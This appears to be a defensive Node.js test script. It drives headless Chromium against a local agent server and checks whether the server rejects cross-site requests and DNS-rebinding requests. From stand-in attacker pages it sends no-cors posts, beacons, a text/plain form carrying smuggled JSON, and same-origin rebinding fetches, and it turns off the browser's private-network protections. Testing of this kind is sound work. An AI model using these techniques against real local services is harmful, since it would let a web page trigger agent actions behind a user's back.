// Web pages that attack `onedoor serve` on 127.0.0.1, in headless Chromium (playwright-core).
// usage: node attack.mjs TARGET_BASE -> prints one JSON object: what the server answered.
//
// 1. cross-site: a page on http://attacker.test sends what any page can send without CORS
//    permission: no-cors fetches with text/plain, a text/plain form post (the JSON-in-a-form
//    trick), sendBeacon, and a JSON fetch (which needs a preflight).
// 2. DNS rebinding: a page on http://evil.test:PORT (the server's port; the name resolves to
//    127.0.0.1) fetches its "own" origin: same-origin for the browser, so it could read answers.
// Playwright serves both pages itself (route.fulfill); every other request reaches the server.
import { chromium } from "playwright-core";

const [target] = process.argv.slice(2);
const port = new URL(target).port;
const paths = ["/rest/chat", "/rest/chat/stream", "/agui/", "/mcp/"];
const body = {
  "/rest/chat": { message: "run me" },
  "/rest/chat/stream": { message: "run me" },
  "/agui/": { threadId: "t", runId: "attack", messages: [{ id: "1", role: "user", content: "run me" }] },
  "/mcp/": { jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: "2025-11-25", capabilities: {}, clientInfo: { name: "evil", version: "1" } } },
};

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM_PATH || "/usr/bin/chromium",
  args: [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking",
    "--disable-component-update", "--disable-sync", "--disable-quic", "--no-first-run",
    "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP attacker.test 127.0.0.1",
    // Chromium's own Private/Local Network Access checks would stop some of these requests
    // before they leave the browser; other browsers have no such check, so the server must
    // refuse them itself: turn Chromium's off and test the server.
    "--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights," +
      "PrivateNetworkAccessRespectPreflightResults,LocalNetworkAccessChecks",
  ],
});
const out = { crossSite: [], rebinding: [], failed: [] };
try {
  const context = await browser.newContext();
  const page = await context.newPage();
  page.on("response", (r) => {
    const url = new URL(r.url());
    if (url.port === port) {
      const entry = { method: r.request().method(), path: url.pathname, status: r.status(), host: url.hostname };
      (url.hostname === "evil.test" ? out.rebinding : out.crossSite).push(entry);
    }
  });
  page.on("requestfailed", (r) => out.failed.push({ url: r.url(), error: r.failure()?.errorText }));
  const html = "<!doctype html><title>cute cats</title><iframe name=sink></iframe>";
  await page.route("http://attacker.test/", (route) => route.fulfill({ contentType: "text/html", body: html }));
  await page.route(`http://evil.test:${port}/`, (route) => route.fulfill({ contentType: "text/html", body: html }));

  // 1. cross-site page
  await page.goto("http://attacker.test/");
  out.crossSitePage = await page.evaluate(async ({ target, paths, body }) => {
    const results = [];
    for (const path of paths) {
      const url = target + path;
      const json = JSON.stringify(body[path]);
      try {
        await fetch(url, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: json });
        results.push([path, "no-cors sent"]);
      } catch (e) {
        results.push([path, `no-cors ${e}`]);
      }
      results.push([path, navigator.sendBeacon(url, new Blob([json], { type: "text/plain" })) ? "beacon queued" : "beacon refused"]);
      try {
        const r = await fetch(url, { method: "POST", headers: { "Content-Type": "application/json" }, body: json });
        results.push([path, `json read ${r.status}`]);
      } catch (e) {
        results.push([path, `json ${e.name}`]);
      }
      // <form enctype=text/plain>: name + "=" + value becomes the body, a JSON object
      const form = document.createElement("form");
      form.method = "POST";
      form.action = url;
      form.enctype = "text/plain";
      form.target = "sink";
      const input = document.createElement("input");
      input.name = json.slice(0, -1) + ',"x":"';
      input.value = '"}';
      form.append(input);
      document.body.append(form);
      form.submit();
      await new Promise((resolve) => setTimeout(resolve, 150));
    }
    return results;
  }, { target, paths, body });
  await page.waitForTimeout(500);

  // 2. DNS rebinding: the same origin, as far as the browser knows
  await page.goto(`http://evil.test:${port}/`);
  out.rebindingPage = await page.evaluate(async ({ paths, body }) => {
    const results = [];
    for (const path of paths) {
      try {
        const r = await fetch(path, {
          method: "POST",
          headers: { "Content-Type": "application/json", Accept: "application/json, text/event-stream" },
          body: JSON.stringify(body[path]),
        });
        results.push([path, r.status, await r.text()]);
      } catch (e) {
        results.push([path, 0, `${e}`]);
      }
    }
    return results;
  }, { paths, body });
} finally {
  await browser.close();
}
console.log(JSON.stringify(out));
